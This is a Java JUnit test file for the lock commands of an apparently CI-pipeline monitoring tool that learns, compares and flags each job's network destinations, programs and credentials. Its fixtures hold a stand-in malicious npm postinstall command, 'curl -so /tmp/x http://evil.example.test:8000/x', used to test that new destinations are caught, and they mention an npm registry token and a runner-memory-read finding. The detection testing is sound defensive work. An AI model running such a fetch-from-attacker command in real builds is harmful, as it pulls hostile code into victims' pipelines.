package eyas.cli.lock;

import static eyas.cli.ProgramRun.eyas;
import static org.assertj.core.api.Assertions.assertThat;

import eyas.baseline.compare.Weight;
import eyas.cli.ProgramRun;
import eyas.report.ReportJson;
import eyas.report.ReportReader;
import eyas.report.model.CollectedRows;
import eyas.report.model.Enrichments;
import eyas.report.model.JobReport;
import eyas.session.terminal.ExitCode;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Checks the output, the files and the errors of the lock commands. */
final class LockCommandTest {
    private static final Path EXAMPLE =
            Path.of("../../report/report/src/test/resources/eyas/report/example-report.json");

    @TempDir
    private Path directory;

    /** The example with complete coverage, so that a check exits with 0. */
    private Path report(String name, String from, String to) throws IOException {
        String text = Files.readString(EXAMPLE)
                .replace("\"dropped\" : 2", "\"dropped\" : 0")
                .replace("\"malformed\" : 1", "\"malformed\" : 0")
                .replace("\"severity\" : \"lost\"", "\"severity\" : \"fact\"")
                .replace("\"omitted\" : 4", "\"omitted\" : 0")
                .replace(from, to);
        return Files.writeString(directory.resolve(name), text);
    }

    private Path learned() throws IOException {
        Path lock = directory.resolve("eyas.lock.yaml");
        ProgramRun run = eyas("lock", "learn", report("first.json", "", "").toString(), "-o", lock.toString());
        assertThat(run.code()).as(run.err()).isZero();
        assertThat(run.err()).contains("from 1 run", "learn from more");
        return lock;
    }

    private ProgramRun check(Path report, Path lock, String... more) {
        String[] all = new String[more.length + 5];
        System.arraycopy(new String[] {"lock", "check", report.toString(), "--lock", lock.toString()}, 0, all, 0, 5);
        System.arraycopy(more, 0, all, 5, more.length);
        return eyas(all);
    }

    @Test
    void learnedEntriesAreNotNew() throws IOException {
        Path lock = learned();
        ProgramRun run = check(directory.resolve("first.json"), lock);
        assertThat(run).isEqualTo(new ProgramRun(0, """
                .github/workflows/ci.yml, job build
                no differences
                """, ""));
    }

    @Test
    void newEntriesExitWithThree() throws IOException {
        Path lock = learned();
        Path other = report("other.json", "gist.example.test", "evil.example.test");
        ProgramRun run = check(other, lock);
        assertThat(run.code()).isEqualTo(ExitCode.FINDINGS);
        assertThat(run.out())
                .contains("new in __run_2, npm left-pad-plus postinstall\n")
                .contains(
                        "heavy  destinations  evil.example.test:8000/tcp from curl  (a destination that this job never had)")
                .contains("by curl (101): curl -so /tmp/x http://evil.example.test:8000/x")
                .contains("gist.example.test:8000/tcp from curl")
                .endsWith("1 new, 0 changed, 1 gone; 1 heavy\n");
        assertThat(check(other, lock, "--format", "json").out())
                .contains("\"entry\": \"evil.example.test:8000/tcp from curl\"", "\"complete\": true");
        assertThat(check(other, lock, "--format", "sarif").out()).contains("\"version\": \"2.1.0\"");
        assertThat(check(other, lock, "--fail-on", "grave").err()).contains("'grave' is not a weight");
    }

    @Test
    void heaviestEntriesAreListedFirst() throws IOException {
        Path empty = Files.writeString(directory.resolve("empty.yaml"), "version: 1\nworkflows: {}\n");
        List<String> weights = Pattern.compile("^ {4}(heavy|medium|light) ", Pattern.MULTILINE)
                .matcher(check(report("first.json", "", ""), empty).out())
                .results()
                .map(line -> line.group(1))
                .toList();
        assertThat(weights)
                .contains("heavy", "light")
                .isSortedAccordingTo(Comparator.comparingInt(Weight.labels()::indexOf));
    }

    @Test
    void incompleteReportExitsWithFour() throws IOException {
        Path lock = learned();
        ProgramRun run = check(EXAMPLE, lock);
        assertThat(run.code()).isEqualTo(ExitCode.INCOMPLETE);
        assertThat(run.out()).contains("Coverage is incomplete: the evidence is incomplete");
    }

    @Test
    void updateKeepsCommentsAndSupportsDryRun() throws IOException {
        Path lock = learned();
        String commented =
                Files.readString(lock).replace("          - user root", "          # Needed.\n          - user root");
        Files.writeString(lock, commented);
        Path other = report("other.json", "gist.example.test", "evil.example.test");
        ProgramRun tried = eyas("lock", "update", other.toString(), "--lock", lock.toString(), "--dry-run");
        assertThat(tried.out()).contains("evil.example.test", "--prune removes them", "would be written");
        assertThat(Files.readString(lock)).isEqualTo(commented);
        assertThat(eyas("lock", "update", other.toString(), "--lock", lock.toString(), "--prune")
                        .code())
                .isZero();
        assertThat(Files.readString(lock))
                .contains("# Needed.", "evil.example.test:8000/tcp from curl")
                .doesNotContain("gist.example.test");
        assertThat(eyas("lock", "update", other.toString(), "--lock", lock.toString())
                        .out())
                .endsWith("eyas.lock.yaml is up to date\n");
        assertThat(check(other, lock).code()).isZero();
        try (var files = Files.list(directory)) {
            assertThat(files).hasSize(3);
        }
    }

    @Test
    void updateCreatesAMissingLock() throws IOException {
        Path lock = directory.resolve("new.yaml");
        assertThat(eyas("lock", "update", report("r.json", "", "").toString(), "--lock", lock.toString())
                        .out())
                .contains("new.yaml is written");
        assertThat(Files.readString(lock)).startsWith("# What the jobs");
        assertThat(eyas("lock", "update", "--lock", directory + "/none/x.yaml").err())
                .contains("no directory for");
    }

    @Test
    void entriesAreShownComparedAndExplained() throws IOException {
        Path lock = learned();
        assertThat(eyas("lock", "show", "--lock", lock.toString(), "--kind", "credentials")
                        .out())
                .contains(".github/workflows/ci.yml / build / __run_2", "credentials   registry token ~/.npmrc");
        assertThat(eyas("lock", "show", "--lock", lock.toString(), "--step", "nothing")
                        .err())
                .contains("no matching entry");
        assertThat(eyas("lock", "show", "--lock", lock.toString(), "--kind", "x")
                        .code())
                .isEqualTo(ExitCode.USAGE);
        assertThat(eyas("lock", "explain", "system /usr/bin/c*", directory + "/first.json")
                        .out())
                .contains("programs: system /usr/bin/curl", "by curl (101)", "started at 2023-11-14 22:13:23 UTC");
        assertThat(eyas("lock", "explain", "system /usr/bin/crul", directory + "/first.json")
                        .err())
                .contains("did you mean 'system /usr/bin/curl'?");
        Path other = Files.writeString(directory.resolve("other.yaml"), "version: 1\nworkflows:\n");
        assertThat(eyas("lock", "diff", other.toString(), lock.toString()).out())
                .contains("heavy  credentials");
        assertThat(eyas("lock", "diff", lock.toString(), lock.toString(), "--exit-code"))
                .isEqualTo(new ProgramRun(0, "no differences\n", ""));
        assertThat(eyas("lock", "diff", lock.toString(), other.toString(), "--exit-code", "--json")
                        .code())
                .isEqualTo(ExitCode.FINDINGS);
    }

    @Test
    void importsListsOfOtherPrograms() throws IOException {
        Path lock = learned();
        Path firewall = Files.writeString(
                directory.resolve("egress-firewall.yaml"),
                "mode: enforce\nallow:\n- api.example.test\n- https://evil.example.test/x/*\n- '*.example.org'\n");
        ProgramRun run = eyas("lock", "import", firewall.toString(), "--lock", lock.toString());
        assertThat(run.code()).as(run.err()).isZero();
        assertThat(run.out()).contains("3 new", "is written", "allows hosts of its own");
        assertThat(Files.readString(lock))
                .contains(
                        "      every step:\n        step:\n          destinations:\n          - name: \"**.example.org:443/tcp")
                .contains("because: allowed by ");
        assertThat(check(directory.resolve("first.json"), lock).code()).isZero();
        String list = "evil.example.test:8000\n*.a.test:443, 192.0.2.1:22";
        Path fresh = directory.resolve("fresh.yaml");
        assertThat(eyas("lock", "import", "--allowed-endpoints", list, "--lock", fresh.toString())
                        .err())
                .contains("both --workflow and --job");
        assertThat(eyas(
                                "lock",
                                "import",
                                "--allowed-endpoints",
                                list,
                                "--workflow",
                                ".github/workflows/ci.yml",
                                "--job",
                                "build",
                                "--lock",
                                fresh.toString())
                        .code())
                .isZero();
        assertThat(Files.readString(fresh))
                .contains("**.a.test:443/tcp from *", "192.0.2.1:22/tcp from *", "evil.example.test:8000/tcp from *");
        assertThat(check(report("other.json", "gist.example.test", "evil.example.test"), fresh)
                        .out())
                .doesNotContain("evil.example.test:8000/tcp from curl");
        assertThat(eyas("lock", "import", "--allowed-endpoints", "a b/c", "--lock", lock.toString()))
                .extracting(ProgramRun::code)
                .isEqualTo(ExitCode.FAILED);
        assertThat(eyas("lock", "import", "--lock", lock.toString()).code()).isEqualTo(ExitCode.USAGE);
    }

    /** A lock that could not be read again is not written. */
    @Test
    void oversizedLockIsNotWritten() throws IOException {
        Path lock = directory.resolve("long.yaml");
        StringBuilder list = new StringBuilder();
        for (int i = 0; i < 40_000; i++) {
            list.append("a".repeat(60))
                    .append('.')
                    .append("b".repeat(60))
                    .append('.')
                    .append("c".repeat(60));
            list.append(".d").append(i).append(".example.test\n- ");
        }
        Path firewall =
                Files.writeString(directory.resolve("f.yaml"), "mode: log\nallow:\n- " + list + "x.example.test\n");
        ProgramRun run =
                eyas("lock", "import", firewall.toString(), "--workflow", "w", "--job", "j", "--lock", lock.toString());
        assertThat(run.code()).isEqualTo(ExitCode.FAILED);
        assertThat(run.err()).contains("cannot write the lock");
        assertThat(lock).doesNotExist();
    }

    @Test
    void errorsAreReported() throws IOException {
        Path lock = Files.writeString(directory.resolve("odd.yaml"), "version: 1\nworkflow:\n");
        assertThat(check(EXAMPLE, lock).err()).contains("odd.yaml:2:1: error[L005]", "did you mean 'workflows'?");
        assertThat(check(EXAMPLE, directory.resolve("none.yaml")).err()).contains("error[L001]: no such lock");
        assertThat(check(directory.resolve("none.json"), lock).err()).contains("none.json: no such file");
        assertThat(eyas("lock").err()).contains("missing command: learn, check");
        assertThat(eyas("lock", "learn", EXAMPLE.toString(), "-o", lock.toString())
                        .err())
                .contains("already exists");
        assertThat(eyas("lock", "learn", lock.toString()).err()).contains("odd.yaml: byte 8: not JSON");
    }

    /** After a command has killed its supervisor, its behavior must not be learned. */
    @Test
    void learnsNothingFromTamperedReports() throws IOException {
        Path lock = learned();
        String before = Files.readString(lock);
        Path tampered = report("tampered.json", "\"kind\" : \"ring_full\"", "\"kind\" : \"supervisor_killed\"");
        for (ProgramRun run : List.of(
                eyas("lock", "learn", tampered.toString()),
                eyas("lock", "update", tampered.toString(), "--lock", lock.toString()))) {
            assertThat(run.code()).isEqualTo(ExitCode.FAILED);
            assertThat(run.out()).isEmpty();
            assertThat(run.err()).contains("cannot learn from " + tampered + ": its verdict is tampered");
        }
        assertThat(lock).hasContent(before);
    }

    /** Writes the example without rules, alerts, suspicions and reputations. */
    private Path clean() throws IOException {
        String found =
                Files.readString(report("found.json", "", "")).replaceAll("\"rules\" : \\[ \\d+ ]", "\"rules\" : [ ]");
        JobReport clean = ReportReader.read("found", found.getBytes(StandardCharsets.UTF_8))
                .report()
                .but()
                .rules(List.of())
                .alerts(CollectedRows.off())
                .suspicions(List.of())
                .enrichments(Enrichments.NONE)
                .end();
        Path file = directory.resolve("clean.json");
        try (OutputStream out = Files.newOutputStream(file)) {
            ReportJson.write(clean, out);
        }
        return file;
    }

    /** A lock learned from an attacked run would allow the attack. */
    @Test
    void learningFromARunWithFindingsIsReported() throws IOException {
        String warning = "has findings (Critical: Runner Memory Read, and 1 other rule): the lock would allow";
        Path clean = clean();
        assertThat(eyas("lock", "learn", clean.toString()).err()).doesNotContain("has findings");
        Path found = report("found.json", "", "");
        ProgramRun both = eyas("lock", "learn", clean.toString(), found.toString());
        assertThat(both.code()).isZero();
        assertThat(both.err()).containsOnlyOnce(warning).contains(found + " has findings");
        Path lock = learned();
        assertThat(eyas("lock", "update", found.toString(), "--lock", lock.toString())
                        .err())
                .contains(warning);
    }
}
